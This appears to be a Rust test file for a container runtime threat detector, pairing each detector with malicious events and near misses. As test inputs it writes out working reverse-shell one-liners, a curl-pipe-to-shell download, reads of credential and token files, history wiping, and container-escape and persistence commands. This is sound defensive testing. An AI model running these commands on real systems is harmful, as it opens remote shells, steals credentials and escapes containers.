//! Runtime detectors: for each, realistic events that must fire it and near misses that must not.
//! Each case runs only the detector it is about, so another detector's finding on the same event
//! cannot hide a miss.

use vigil_detect::{DetectConfig, Engine};
use vigil_schemas::{
    Detection, EnrichedEvent, IpIntel, NetworkInfo, ProcessInfo, RuntimeEvent, ThreatMatch,
};
use vigil_testkit::enriched_runtime as enriched;

/// A process in container `web` of pod `shop/web-6f7d9c8b5-x7k2p` (Deployment `web`), started by `parent`.
fn process_event(kind: &str, binary: &str, arguments: &str, parent: &str) -> RuntimeEvent {
    RuntimeEvent {
        event_id: format!("{kind}-{binary}-{arguments}"),
        event_time_micros: 1_700_000_000_000_000,
        kind: kind.into(),
        sensor: "tetragon".into(),
        node_name: Some("ip-10-0-1-5".into()),
        container_id: Some("0123abcd".into()),
        container_name: Some("web".into()),
        image: Some("registry.example/shop/web:1.4".into()),
        pod_name: Some("web-6f7d9c8b5-x7k2p".into()),
        pod_namespace: Some("shop".into()),
        process: ProcessInfo {
            pid: Some(4242),
            exec_id: Some(format!("exec-{binary}")),
            parent_exec_id: Some("exec-parent".into()),
            binary: binary.into(),
            arguments: (!arguments.is_empty()).then(|| arguments.to_owned()),
            uid: Some(0),
            ..ProcessInfo::default()
        },
        parent: Some(ProcessInfo {
            exec_id: Some("exec-parent".into()),
            binary: parent.into(),
            ..ProcessInfo::default()
        }),
        ..RuntimeEvent::default()
    }
}

fn exec(binary: &str, arguments: &str) -> RuntimeEvent {
    process_event("process_exec", binary, arguments, "/bin/sh")
}

fn file(kind: &str, binary: &str, path: &str) -> RuntimeEvent {
    let mut event = process_event(kind, binary, "", "/bin/sh");
    event.file_path = Some(path.into());
    event
}

fn on_host(mut event: RuntimeEvent) -> RuntimeEvent {
    event.container_id = None;
    event.container_name = None;
    event.pod_name = None;
    event.pod_namespace = None;
    event
}

fn run(detector: &str, event: EnrichedEvent) -> Vec<Detection> {
    let mut engine = vigil_testkit::only(detector, &DetectConfig::default());
    let mut out = Vec::new();
    engine.process(&event, &mut out);
    out
}

#[track_caller]
fn fires(detector: &str, finding_type: &str, event: RuntimeEvent) -> Detection {
    let out = run(detector, enriched(event.clone()));
    assert_eq!(out.len(), 1, "{detector} should fire once on {event:#?}");
    assert_eq!(out[0].finding_type, finding_type);
    out.into_iter().next().unwrap()
}

#[track_caller]
fn quiet(detector: &str, event: RuntimeEvent) {
    let out = run(detector, enriched(event.clone()));
    assert!(
        out.is_empty(),
        "{detector} should stay quiet on {event:#?}: {out:#?}"
    );
}

#[test]
fn runtime_detections_carry_the_process_its_container_and_the_context() {
    let detection = fires(
        "crypto_miner_executed",
        "Impact:Runtime/CryptoMinerExecuted",
        exec("/tmp/xmrig", "-o stratum+tcp://pool.example:3333 -u wallet"),
    );
    let runtime = detection.runtime.expect("runtime details");
    assert_eq!(runtime.process.binary, "/tmp/xmrig");
    assert_eq!(runtime.pod_name.as_deref(), Some("web-6f7d9c8b5-x7k2p"));
    assert_eq!(
        runtime.image.as_deref(),
        Some("registry.example/shop/web:1.4")
    );
    assert_eq!(runtime.context[0].key, "commandLineExample");
    assert_eq!(
        runtime.context[0].value,
        "xmrig -o stratum+tcp://pool.example:3333 -u wallet"
    );
    // One finding per workload: the Deployment, not the pod.
    assert_eq!(detection.aggregation_key, ["shop/web"]);
    assert!(detection.user.is_none() && detection.api_call.is_none());
}

#[test]
fn runtime_rules_do_not_look_at_audit_events_and_audit_rules_not_at_runtime_events() {
    let event = enriched(exec("/usr/bin/nsenter", "-t 1 -m -u -n -i -p bash"));
    let mut engine = Engine::default();
    let mut out = Vec::new();
    engine.process(&event, &mut out);
    assert!(
        out.iter().all(|d| d.finding_type.contains(":Runtime/")),
        "{out:#?}"
    );
    assert!(!out.is_empty());
}

#[test]
fn new_binary_and_library_only_when_written_in_the_container() {
    let mut drift = enriched(exec("/tmp/payload", ""));
    drift.binary_written_in_container = true;
    assert_eq!(run("new_binary_executed", drift).len(), 1);
    quiet(
        "new_binary_executed",
        exec("/usr/bin/curl", "-s http://api"),
    );
    let mut library = enriched(file("library_load", "/usr/bin/python3", "/tmp/evil.so"));
    library.binary_written_in_container = true;
    let out = run("new_library_loaded", library);
    assert_eq!(out[0].finding_type, "Execution:Runtime/NewLibraryLoaded");
    quiet(
        "new_library_loaded",
        file("library_load", "/usr/bin/python3", "/usr/lib/libssl.so.3"),
    );
}

#[test]
fn reverse_shells_by_command_line_and_by_a_shell_holding_a_socket() {
    let t = "Execution:Runtime/ReverseShell";
    for (binary, arguments) in [
        ("/bin/bash", "-c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
        ("/usr/bin/nc", "-e /bin/sh 203.0.113.9 4444"),
        ("/usr/bin/ncat", "203.0.113.9 4444 -e /bin/bash"),
        (
            "/usr/bin/socat",
            "tcp:203.0.113.9:4444 exec:/bin/sh,pty,stderr",
        ),
        (
            "/usr/bin/python3",
            "-c import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",4444));os.dup2(s.fileno(),0);pty.spawn(\"sh\")",
        ),
        (
            "/bin/sh",
            "-c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f",
        ),
        (
            "/bin/sh",
            "-c telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445",
        ),
        (
            "/usr/bin/gawk",
            "BEGIN {s = \"/inet/tcp/0/203.0.113.9/4444\"; while (1) {s |& getline c; print c |& s}}",
        ),
        (
            "/usr/local/bin/node",
            "-e require('child_process').exec('nc -e /bin/sh 203.0.113.9 4444')",
        ),
        (
            "/usr/local/bin/node",
            "-e var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'203.0.113.9')",
        ),
    ] {
        fires("reverse_shell_command", t, exec(binary, arguments));
    }
    quiet("reverse_shell_command", exec("/usr/bin/nc", "-z db 5432"));
    quiet(
        "reverse_shell_command",
        exec("/bin/bash", "-c echo ready > /tmp/ready"),
    );
    quiet(
        "reverse_shell_command",
        exec("/usr/bin/socat", "TCP-LISTEN:8080,fork TCP:backend:80"),
    );
    quiet(
        "reverse_shell_command",
        exec(
            "/bin/sh",
            "-c until nc -z db 5432; do sleep 1; done; exec ./server",
        ),
    );
    quiet(
        "reverse_shell_command",
        exec("/bin/sh", "-c echo stats | nc memcached 11211 | sha256sum"),
    );
    quiet(
        "reverse_shell_command",
        exec(
            "/usr/local/bin/node",
            "-e require('http').get('http://localhost:3000/healthz')",
        ),
    );

    let mut socket = process_event("network_connect", "/bin/bash", "-i", "/usr/bin/nc");
    socket.network = Some(NetworkInfo {
        protocol: "tcp".into(),
        destination_ip: Some("203.0.113.9".into()),
        destination_port: Some(4444),
        ..NetworkInfo::default()
    });
    let mut connect = enriched(socket);
    connect.destination_ip = Some(IpIntel {
        ip: "203.0.113.9".into(),
        scope: "public".into(),
        ..IpIntel::default()
    });
    assert_eq!(run("reverse_shell_socket", connect.clone()).len(), 1);
    // curl connecting out is what curl does.
    let mut curl = connect.clone();
    curl.runtime.as_mut().unwrap().process.binary = "/usr/bin/curl".into();
    assert!(run("reverse_shell_socket", curl).is_empty());
    // A shell talking to itself over loopback is not a remote shell.
    let mut local = connect;
    local.destination_ip.as_mut().unwrap().scope = "loopback".into();
    assert!(run("reverse_shell_socket", local).is_empty());
}

#[test]
fn interactive_shells_spawned_by_servers() {
    let t = "Execution:Runtime/SuspiciousShellCreated";
    fires(
        "suspicious_shell_created",
        t,
        process_event("process_exec", "/bin/sh", "", "/usr/sbin/nginx"),
    );
    fires(
        "suspicious_shell_created",
        t,
        process_event("process_exec", "/bin/bash", "-i", "/usr/bin/java"),
    );
    // Servers run helpers through `sh -c`; a shell started by a shell is a person or a script.
    quiet(
        "suspicious_shell_created",
        process_event(
            "process_exec",
            "/bin/sh",
            "-c /usr/local/bin/render.sh",
            "/usr/sbin/nginx",
        ),
    );
    quiet(
        "suspicious_shell_created",
        process_event(
            "process_exec",
            "/bin/bash",
            "",
            "/usr/bin/containerd-shim-runc-v2",
        ),
    );
}

#[test]
fn suspicious_tools_offensive_high_dual_use_low() {
    let t = "Execution:Runtime/SuspiciousTool";
    let high = fires(
        "suspicious_tool_offensive",
        t,
        exec("/usr/bin/masscan", "-p1-65535 10.0.0.0/8"),
    );
    assert!(high.severity >= 7.0);
    let low = fires(
        "suspicious_tool_dual_use",
        t,
        exec("/usr/bin/nc", "evil.example 443"),
    );
    assert!(low.severity < 4.0);
    assert_eq!(
        low.runtime.unwrap().context[0].value,
        "Dual-use network tool"
    );
    quiet(
        "suspicious_tool_dual_use",
        exec("/usr/bin/nc", "-z -w 2 postgres 5432"),
    );
    // The tool is the script an interpreter runs.
    for (binary, arguments) in [
        ("/bin/sh", "linpeas.sh"),
        ("/bin/bash", "/tmp/deepce.sh --no-enumeration"),
        (
            "/usr/bin/python3",
            "/opt/sqlmap/sqlmap.py -u http://shop/?id=1",
        ),
    ] {
        let found = fires("offensive_script_run", t, exec(binary, arguments));
        assert!(found.severity >= 7.0);
    }
    quiet(
        "offensive_script_run",
        exec("/bin/sh", "/app/entrypoint.sh"),
    );
    quiet(
        "offensive_script_run",
        exec("/usr/bin/python3", "/app/manage.py migrate"),
    );
    quiet(
        "suspicious_tool_dual_use",
        on_host(exec("/usr/sbin/tcpdump", "-i eth0")),
    );
    quiet(
        "suspicious_tool_offensive",
        exec("/usr/bin/curl", "https://api.example"),
    );
}

#[test]
fn suspicious_commands_by_purpose() {
    let cases = [
        (
            "download_and_run_command",
            "Execution:Runtime/SuspiciousCommand",
            exec("/bin/sh", "-c curl -fsSL http://203.0.113.9/x.sh | sh"),
            exec(
                "/bin/sh",
                "-c curl -fsSL http://config/app.json -o /app/config.json",
            ),
        ),
        (
            "download_and_run_command",
            "Execution:Runtime/SuspiciousCommand",
            exec("/bin/chmod", "+x /tmp/kworker"),
            exec("/bin/chmod", "+x /app/bin/server"),
        ),
        (
            "discovery_suspicious_command",
            "Discovery:Runtime/SuspiciousCommand",
            exec(
                "/usr/bin/curl",
                "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            ),
            exec(
                "/usr/bin/curl",
                "http://169.254.169.254/latest/meta-data/placement/region",
            ),
        ),
        (
            "discovery_suspicious_command",
            "Discovery:Runtime/SuspiciousCommand",
            exec("/usr/local/bin/kubectl", "auth can-i --list"),
            exec("/usr/local/bin/kubectl", "get configmap app-config -o yaml"),
        ),
        (
            "defense_evasion_suspicious_command",
            "DefenseEvasion:Runtime/SuspiciousCommand",
            exec("/usr/sbin/iptables", "-F"),
            exec("/usr/sbin/iptables", "-L -n"),
        ),
        (
            "defense_evasion_suspicious_command",
            "DefenseEvasion:Runtime/SuspiciousCommand",
            exec("/bin/bash", "-c unset HISTFILE; ./run"),
            exec("/bin/bash", "-c ./run"),
        ),
        (
            "defense_evasion_suspicious_command",
            "DefenseEvasion:Runtime/SuspiciousCommand",
            exec("/bin/rm", "-f /root/.bash_history"),
            exec("/bin/rm", "-f /tmp/history.db"),
        ),
        (
            "defense_evasion_suspicious_command",
            "DefenseEvasion:Runtime/SuspiciousCommand",
            exec("/bin/ln", "-sf /dev/null /home/app/.zsh_history"),
            exec("/bin/ln", "-sf /dev/null /var/log/app.log.old"),
        ),
        (
            "defense_evasion_suspicious_command",
            "DefenseEvasion:Runtime/SuspiciousCommand",
            exec("/bin/sh", "-c cat /dev/null > ~/.ash_history"),
            exec("/bin/sh", "-c cat /app/history.txt"),
        ),
        (
            "setuid_bit_set",
            "PrivilegeEscalation:Runtime/SuspiciousCommand",
            exec("/bin/chmod", "u+s /tmp/sh"),
            exec("/bin/chmod", "u+x /tmp/sh"),
        ),
        (
            "setuid_bit_set",
            "PrivilegeEscalation:Runtime/SuspiciousCommand",
            exec("/bin/chmod", "4755 /tmp/.x/bash"),
            exec("/bin/chmod", "0755 /tmp/.x/bash"),
        ),
        (
            "setuid_bit_set",
            "PrivilegeEscalation:Runtime/SuspiciousCommand",
            exec("/bin/chmod", "a+rx,g+s /srv/tool"),
            exec("/bin/chmod", "1777 /tmp/shared"),
        ),
        (
            "persistence_suspicious_command",
            "Persistence:Runtime/SuspiciousCommand",
            exec("/usr/sbin/useradd", "-m -s /bin/bash backup"),
            exec("/usr/bin/crontab", "-l"),
        ),
        (
            "persistence_suspicious_command",
            "Persistence:Runtime/SuspiciousCommand",
            exec("/bin/sh", "-c echo '* * * * * root /tmp/x' >> /etc/crontab"),
            exec("/bin/sh", "-c echo done >> /tmp/log"),
        ),
        (
            "container_escape_command",
            "PrivilegeEscalation:Runtime/SuspiciousCommand",
            exec("/usr/bin/nsenter", "-t 1 -m -u -n -i -p bash"),
            exec("/usr/bin/nsenter", "--net=/var/run/netns/cni-1 ip addr"),
        ),
        (
            "container_escape_command",
            "PrivilegeEscalation:Runtime/SuspiciousCommand",
            exec("/usr/sbin/chroot", "/host /bin/bash"),
            exec("/usr/sbin/chroot", "/srv/build make"),
        ),
    ];
    for (detector, finding_type, firing, near_miss) in cases {
        fires(detector, finding_type, firing);
        quiet(detector, near_miss);
    }
}

#[test]
fn what_an_escaped_shell_runs_is_the_same_escape_finding() {
    // bash started by `nsenter -t 1`: the lineage shows the escape even when the exec does not.
    let mut event = enriched(process_event(
        "process_exec",
        "/usr/bin/bash",
        "",
        "/usr/bin/nsenter",
    ));
    event.lineage = vec![ProcessInfo {
        binary: "/usr/bin/nsenter".into(),
        arguments: Some("-t 1 -m -u -n -i -p bash".into()),
        ..ProcessInfo::default()
    }];
    let first = run("container_escape_command", event.clone());
    let mut later = event;
    later.runtime.as_mut().unwrap().process.binary = "/usr/bin/id".into();
    let second = run("container_escape_command", later);
    assert_eq!(first[0].aggregation_key, second[0].aggregation_key);
    // A process in the host's mount namespace inside a container has escaped too.
    let mut host_mnt = exec("/usr/bin/ls", "/");
    host_mnt.host_namespaces = vec!["mnt".into(), "pid".into()];
    fires(
        "container_escape_command",
        "PrivilegeEscalation:Runtime/SuspiciousCommand",
        host_mnt.clone(),
    );
    quiet("container_escape_command", on_host(host_mnt));
}

#[test]
fn sensitive_files_by_purpose() {
    let cases = [
        (
            "persistence_sensitive_file_modified",
            "Persistence:Runtime/SensitiveFileModified",
            file("file_write", "/usr/bin/vi", "/etc/passwd"),
            file("file_read", "/usr/bin/vi", "/etc/passwd"),
        ),
        (
            "persistence_sensitive_file_modified",
            "Persistence:Runtime/SensitiveFileModified",
            file("file_write", "/bin/sh", "/root/.ssh/authorized_keys"),
            file("file_write", "/bin/sh", "/root/.ssh/known_hosts"),
        ),
        (
            "privilege_escalation_sensitive_file_modified",
            "PrivilegeEscalation:Runtime/SensitiveFileModified",
            file("file_write", "/bin/sh", "/etc/sudoers.d/backdoor"),
            file("file_write", "/bin/sh", "/etc/hosts"),
        ),
        (
            "defense_evasion_sensitive_file_modified",
            "DefenseEvasion:Runtime/SensitiveFileModified",
            file("file_write", "/bin/sh", "/etc/ld.so.preload"),
            file("file_write", "/bin/sh", "/etc/ld.so.conf.d/x.conf"),
        ),
        (
            "defense_evasion_logs_removed",
            "DefenseEvasion:Runtime/SensitiveFileModified",
            file("file_unlink", "/bin/rm", "/var/log/auth.log"),
            file("file_write", "/usr/sbin/nginx", "/var/log/nginx/access.log"),
        ),
        (
            "defense_evasion_logs_removed",
            "DefenseEvasion:Runtime/SensitiveFileModified",
            file("file_unlink", "/bin/rm", "/root/.bash_history"),
            file("file_unlink", "/usr/sbin/logrotate", "/var/log/app.log.1"),
        ),
        (
            "credential_file_read",
            "CredentialAccess:Runtime/SensitiveFileRead",
            file(
                "file_read",
                "/usr/bin/cat",
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
            ),
            // client-go reads its token every minute: the program owning a credential reads it.
            file(
                "file_read",
                "/app/controller",
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
            ),
        ),
        (
            "credential_file_dumped",
            "CredentialAccess:Runtime/SensitiveFileRead",
            exec(
                "/usr/bin/cat",
                "/var/run/secrets/kubernetes.io/serviceaccount/token",
            ),
            exec("/usr/bin/cat", "/etc/os-release"),
        ),
        (
            "cgroups_release_agent_modified",
            "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
            file("file_write", "/bin/sh", "/tmp/cgrp/release_agent"),
            file("file_write", "/bin/sh", "/tmp/cgrp/notify_on_release"),
        ),
        (
            "cgroups_release_agent_modified",
            "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
            exec("/bin/sh", "-c echo /cmd > /tmp/cgrp/release_agent"),
            exec("/bin/sh", "-c cat /sys/fs/cgroup/memory.max"),
        ),
        (
            "docker_socket_accessed",
            "PrivilegeEscalation:Runtime/DockerSocketAccessed",
            file("file_open", "/usr/bin/curl", "/var/run/docker.sock"),
            on_host(file(
                "file_open",
                "/usr/bin/dockerd",
                "/var/run/docker.sock",
            )),
        ),
        (
            "docker_socket_accessed",
            "PrivilegeEscalation:Runtime/DockerSocketAccessed",
            exec(
                "/usr/bin/curl",
                "--unix-socket /var/run/docker.sock http://localhost/containers/json",
            ),
            exec("/usr/bin/curl", "http://localhost:8080/health"),
        ),
        (
            "runc_container_escape",
            "PrivilegeEscalation:Runtime/RuncContainerEscape",
            file("file_write", "/proc/self/exe", "/usr/bin/runc"),
            file("file_write", "/usr/bin/dpkg", "/usr/bin/runc"),
        ),
        (
            "process_injection_proc",
            "DefenseEvasion:Runtime/ProcessInjection.Proc",
            file("file_write", "/tmp/inject", "/proc/1234/mem"),
            file("file_write", "/tmp/inject", "/proc/1234/oom_score_adj"),
        ),
    ];
    for (detector, finding_type, firing, near_miss) in cases {
        fires(detector, finding_type, firing);
        quiet(detector, near_miss);
    }
}

#[test]
fn kernel_modules_mounts_and_memory() {
    let mut module = process_event("module_load", "/usr/sbin/insmod", "rootkit.ko", "/bin/sh");
    module.module_name = Some("rootkit".into());
    module.file_path = Some("/tmp/rootkit.ko".into());
    let found = fires(
        "kernel_module_loaded",
        "DefenseEvasion:Runtime/KernelModuleLoaded",
        module,
    );
    let context = found.runtime.unwrap().context;
    assert!(
        context
            .iter()
            .any(|kv| kv.key == "moduleName" && kv.value == "rootkit")
    );
    quiet(
        "kernel_module_loaded",
        exec("/usr/sbin/insmod", "rootkit.ko"),
    );
    fires(
        "kernel_module_load_command",
        "DefenseEvasion:Runtime/KernelModuleLoaded",
        exec("/usr/sbin/insmod", "/tmp/rootkit.ko"),
    );
    quiet(
        "kernel_module_load_command",
        exec("/usr/sbin/modprobe", "-n br_netfilter"),
    );
    quiet(
        "kernel_module_load_command",
        on_host(exec("/usr/sbin/modprobe", "br_netfilter")),
    );

    let mut mount = process_event("mount", "/bin/mount", "", "/bin/sh");
    mount.mount_source = Some("/dev/nvme0n1p1".into());
    mount.mount_target = Some("/mnt/host".into());
    mount.mount_fs_type = Some("xfs".into());
    fires(
        "container_mounts_host_directory",
        "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
        mount.clone(),
    );
    let mut tmpfs = mount.clone();
    tmpfs.mount_source = Some("tmpfs".into());
    tmpfs.mount_fs_type = Some("tmpfs".into());
    quiet("container_mounts_host_directory", tmpfs);
    quiet("container_mounts_host_directory", on_host(mount));
    fires(
        "container_mount_command",
        "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
        exec("/bin/mount", "/dev/sda1 /mnt"),
    );
    quiet(
        "container_mount_command",
        exec("/bin/mount", "-t tmpfs tmpfs /scratch"),
    );

    let mut poke = process_event("ptrace", "/tmp/inject", "", "/bin/sh");
    poke.ptrace_request = Some("PTRACE_POKETEXT".into());
    poke.target_pid = Some(1);
    fires(
        "process_injection_ptrace",
        "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
        poke.clone(),
    );
    let mut traceme = poke.clone();
    traceme.ptrace_request = Some("PTRACE_TRACEME".into());
    quiet("process_injection_ptrace", traceme.clone());
    fires(
        "ptrace_anti_debugging",
        "DefenseEvasion:Runtime/PtraceAntiDebugging",
        traceme,
    );
    quiet("ptrace_anti_debugging", poke);

    let write = process_event("process_vm_write", "/tmp/inject", "", "/bin/sh");
    fires(
        "process_injection_vm_write",
        "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite",
        write,
    );
    quiet(
        "process_injection_vm_write",
        process_event("ptrace", "/usr/bin/gdb", "", "/bin/sh"),
    );

    fires(
        "userfaultfd_usage",
        "PrivilegeEscalation:Runtime/UserfaultfdUsage",
        process_event("userfaultfd", "/tmp/exploit", "", "/bin/sh"),
    );
    quiet(
        "userfaultfd_usage",
        process_event("memfd_create", "/usr/bin/java", "", "/bin/sh"),
    );
}

#[test]
fn elevation_to_root_and_fileless_execution() {
    let mut setuid = process_event("privilege_change", "/tmp/exploit", "", "/bin/sh");
    setuid.process.uid = Some(1000);
    setuid.new_uid = Some(0);
    fires(
        "elevation_to_root",
        "PrivilegeEscalation:Runtime/ElevationToRoot",
        setuid.clone(),
    );
    let mut sudo = setuid.clone();
    sudo.process.binary = "/usr/bin/sudo".into();
    quiet("elevation_to_root", sudo);
    let mut already_root = setuid;
    already_root.process.uid = Some(0);
    quiet("elevation_to_root", already_root);

    fires(
        "fileless_execution",
        "DefenseEvasion:Runtime/FilelessExecution",
        exec("/memfd:payload", ""),
    );
    fires(
        "fileless_execution",
        "DefenseEvasion:Runtime/FilelessExecution",
        exec("/proc/self/fd/3", ""),
    );
    quiet("fileless_execution", exec("/usr/bin/python3", "app.py"));
}

#[test]
fn dns_rebinding_to_the_metadata_service_and_mining_pools() {
    let mut rebind = process_event("dns_query", "/usr/bin/curl", "", "/bin/sh");
    rebind.dns_query = Some("7f000001.a9fea9fe.rbndr.us".into());
    rebind.dns_answers = vec!["169.254.169.254".into()];
    fires(
        "metadata_dns_rebind",
        "UnauthorizedAccess:Runtime/MetadataDNSRebind",
        rebind.clone(),
    );
    let mut honest = rebind.clone();
    honest.dns_query = Some("instance-data.ec2.internal".into());
    quiet("metadata_dns_rebind", honest);
    let mut ordinary = rebind;
    ordinary.dns_answers = vec!["93.184.216.34".into()];
    quiet("metadata_dns_rebind", ordinary.clone());

    let mut pool = ordinary.clone();
    pool.dns_query = Some("gulf.moneroocean.stream".into());
    fires(
        "mining_pool_domain_request",
        "Impact:Runtime/BitcoinDomainRequest.Reputation",
        pool,
    );
    let mut api = ordinary.clone();
    api.dns_query = Some("api.stripe.com".into());
    quiet("mining_pool_domain_request", api.clone());

    for abused in [
        "c2-relay.duckdns.org",
        "4f3a-203-0-113-9.ngrok-free.app",
        "quiet-lake-1234.trycloudflare.com",
        "PASTEBIN.COM.",
        "x7.oast.fun",
    ] {
        let mut query = ordinary.clone();
        query.dns_query = Some(abused.into());
        fires(
            "abused_domain_request",
            "Impact:Runtime/AbusedDomainRequest.Reputation",
            query,
        );
    }
    for fine in [
        "api.stripe.com",
        "notduckdns.org",
        "duckdns.org.example.com",
        "ngrok.example.com",
    ] {
        let mut query = ordinary.clone();
        query.dns_query = Some(fine.into());
        quiet("abused_domain_request", query);
    }

    let mut generated = ordinary;
    generated.dns_query = Some("qxv7zk2hwtrbnm9.info".into());
    fires(
        "generated_domain_request",
        "Impact:Runtime/SuspiciousDomainRequest.Reputation",
        generated,
    );
    quiet("generated_domain_request", api);
}

fn listed(category: Option<&str>, entry: &str) -> ThreatMatch {
    ThreatMatch {
        list_name: "intel".into(),
        entry: entry.into(),
        file_sha256: "ab".into(),
        curated: false,
        category: category.map(str::to_owned),
    }
}

fn connection(ip: &str) -> EnrichedEvent {
    let mut event = process_event("network_connect", "/tmp/agent", "", "/bin/sh");
    event.network = Some(NetworkInfo {
        protocol: "tcp".into(),
        destination_ip: Some(ip.into()),
        destination_port: Some(443),
        ..NetworkInfo::default()
    });
    let mut enriched = enriched(event);
    enriched.destination_ip = Some(IpIntel {
        ip: ip.into(),
        scope: "public".into(),
        ..IpIntel::default()
    });
    enriched
}

#[test]
fn threat_listed_addresses_and_domains_raise_the_type_of_their_list_category() {
    for (category, ip_type) in [
        (Some("c2"), "Backdoor:Runtime/C&CActivity.B"),
        (Some("mining"), "CryptoCurrency:Runtime/BitcoinTool.B"),
        (Some("drop_point"), "Trojan:Runtime/DropPoint"),
        (Some("blackhole"), "Trojan:Runtime/BlackholeTraffic"),
        (None, "UnauthorizedAccess:Runtime/MaliciousIPCaller.Custom"),
    ] {
        let mut event = connection("198.51.100.7");
        event.destination_ip.as_mut().unwrap().threat_matches =
            vec![listed(category, "198.51.100.7")];
        let out = run("runtime_threat_intel", event);
        assert_eq!(out.len(), 1, "{category:?}");
        assert_eq!(out[0].finding_type, ip_type);
        assert_eq!(out[0].threat_intel[0].entry, "198.51.100.7");
    }
    for (category, dns_type) in [
        (Some("c2"), "Backdoor:Runtime/C&CActivity.B!DNS"),
        (Some("dga"), "Trojan:Runtime/DGADomainRequest.C!DNS"),
        (Some("phishing"), "Trojan:Runtime/PhishingDomainRequest!DNS"),
        (
            Some("abused"),
            "Impact:Runtime/AbusedDomainRequest.Reputation",
        ),
        (None, "Impact:Runtime/MaliciousDomainRequest.Reputation"),
    ] {
        let mut query = process_event("dns_query", "/tmp/agent", "", "/bin/sh");
        query.dns_query = Some("beacon.evil.example".into());
        let mut event = enriched(query);
        event.domain_matches = vec![listed(category, "evil.example")];
        let out = run("runtime_threat_intel", event);
        assert_eq!(out.len(), 1);
        assert_eq!(out[0].finding_type, dns_type);
    }
    // Tor, an unlisted address, and a listed but trusted one.
    let mut tor = connection("185.220.101.1");
    tor.destination_ip.as_mut().unwrap().tor_exit = true;
    assert_eq!(
        run("runtime_threat_intel", tor)[0].finding_type,
        "UnauthorizedAccess:Runtime/TorClient"
    );
    assert!(run("runtime_threat_intel", connection("198.51.100.8")).is_empty());
    let mut trusted = connection("198.51.100.7");
    let remote = trusted.destination_ip.as_mut().unwrap();
    remote.threat_matches = vec![listed(Some("c2"), "198.51.100.7")];
    remote.trusted = true;
    assert!(run("runtime_threat_intel", trusted).is_empty());
}

#[test]
fn a_relay_reaching_in_is_a_tor_relay_and_a_connection_to_a_relays_or_port_a_tor_client() {
    let relay = |kind: &str, port: i32, or_ports: Vec<i32>| {
        let mut event = connection("198.51.100.9");
        if let Some(runtime) = &mut event.runtime {
            runtime.kind = kind.into();
            if let Some(network) = &mut runtime.network {
                network.destination_port = Some(port);
            }
        }
        let remote = event.destination_ip.as_mut().unwrap();
        remote.tor_relay = true;
        remote.tor_relay_or_ports = or_ports;
        event
    };
    // Inbound from a relay (its source port is any): this workload relays.
    let inbound = run(
        "runtime_threat_intel",
        relay("network_accept", 51_234, vec![9001]),
    );
    assert_eq!(inbound.len(), 1);
    assert_eq!(
        inbound[0].finding_type,
        "UnauthorizedAccess:Runtime/TorRelay"
    );
    assert_eq!(inbound[0].severity, 8.0);
    assert_eq!(inbound[0].threat_intel[0].list_name, "tor_relays");
    // Out to its OR port: a Tor client entering the network; to another of its ports: nothing.
    let guard = run(
        "runtime_threat_intel",
        relay("network_connect", 9001, vec![9001]),
    );
    assert_eq!(
        guard[0].finding_type,
        "UnauthorizedAccess:Runtime/TorClient"
    );
    assert!(
        run(
            "runtime_threat_intel",
            relay("network_connect", 443, vec![9001])
        )
        .is_empty()
    );
    // A list without ports: any port of a relay.
    let any = run(
        "runtime_threat_intel",
        relay("network_connect", 443, Vec::new()),
    );
    assert_eq!(any[0].finding_type, "UnauthorizedAccess:Runtime/TorClient");
    // Inbound from an address on no relay list, or a trusted relay: nothing.
    let mut stranger = relay("network_accept", 51_234, vec![9001]);
    stranger.destination_ip.as_mut().unwrap().tor_relay = false;
    assert!(run("runtime_threat_intel", stranger).is_empty());
    let mut trusted = relay("network_accept", 51_234, vec![9001]);
    trusted.destination_ip.as_mut().unwrap().trusted = true;
    assert!(run("runtime_threat_intel", trusted).is_empty());
}

#[test]
fn sensor_alerts_become_findings_with_the_sensors_purpose_and_priority() {
    let mut alert = process_event("sensor_alert", "/bin/bash", "", "/usr/bin/runc");
    alert.sensor = "falco".into();
    alert.sensor_rule = Some("Terminal shell in container".into());
    alert.sensor_priority = Some("Notice".into());
    alert.sensor_fields = vec![vigil_schemas::KeyValue {
        key: "tags".into(),
        value: "container,mitre_execution,shell".into(),
    }];
    let found = fires(
        "sensor_alert",
        "Execution:Runtime/SensorAlert",
        alert.clone(),
    );
    assert!(found.severity < 4.0);
    let mut critical = alert.clone();
    critical.sensor_priority = Some("Critical".into());
    critical.sensor_fields[0].value = "mitre_privilege_escalation".into();
    let found = fires(
        "sensor_alert",
        "PrivilegeEscalation:Runtime/SensorAlert",
        critical,
    );
    assert!(found.severity >= 7.0);
    let mut exec_event = alert;
    exec_event.kind = "process_exec".into();
    quiet("sensor_alert", exec_event);
}

#[test]
fn an_alert_of_falco_s_audit_log_source_is_a_kubernetes_finding_about_the_caller() {
    let pair = |key: &str, value: &str| vigil_schemas::KeyValue {
        key: key.into(),
        value: value.into(),
    };
    let mut alert = process_event("sensor_alert", "", "", "");
    alert.sensor = "falco".into();
    alert.sensor_rule = Some("Create Privileged Pod".into());
    alert.sensor_priority = Some("Warning".into());
    alert.node_name = None;
    alert.pod_name = None;
    alert.pod_namespace = None;
    alert.sensor_fields = vec![
        pair("source", "k8saudit-eks"),
        pair("tags", "k8s,mitre_privilege_escalation"),
        pair("ka.user.name", "alice"),
        pair("ka.target.resource", "pods"),
        pair("ka.target.namespace", "shop"),
        pair("ka.target.name", "miner"),
    ];
    let found = fires(
        "sensor_alert",
        "PrivilegeEscalation:Kubernetes/SensorAlert",
        alert.clone(),
    );
    assert_eq!(
        found.user.as_ref().map(|user| user.username.as_str()),
        Some("alice")
    );
    assert_eq!(
        found.aggregation_key,
        ["Create Privileged Pod", "alice", "pods/shop/miner"]
    );
    assert!(
        found.title.contains("Kubernetes API by alice"),
        "{}",
        found.title
    );
